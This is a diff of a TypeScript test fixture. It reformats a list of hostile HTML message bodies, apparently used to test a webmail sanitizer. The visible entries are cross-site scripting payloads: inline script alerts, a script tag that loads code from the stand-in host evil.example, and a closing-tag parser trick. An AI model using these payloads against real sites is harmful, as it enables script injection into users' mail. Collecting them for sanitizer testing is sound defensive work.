@@ -1,4 +1,7 @@
-/** Bodies that try to run, load, send, frame or cover something. Sources: facts of published webmail holes, and variations. */
+/**
+ * Bodies that try to run, load, send, frame or cover something. Sources: facts of published webmail holes,
+ * and variations.
+ */
 const scripts = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
@@ -159,4 +162,12 @@ const parserTricks = [
   '</body></html><script>alert(1)</script>',
 ]
 
-export const hostileBodies: readonly string[] = [...scripts, ...handlers, ...addresses, ...frames, ...pictures, ...styles, ...parserTricks]
+export const hostileBodies: readonly string[] = [
+  ...scripts,
+  ...handlers,
+  ...addresses,
+  ...frames,
+  ...pictures,
+  ...styles,
+  ...parserTricks,
+]
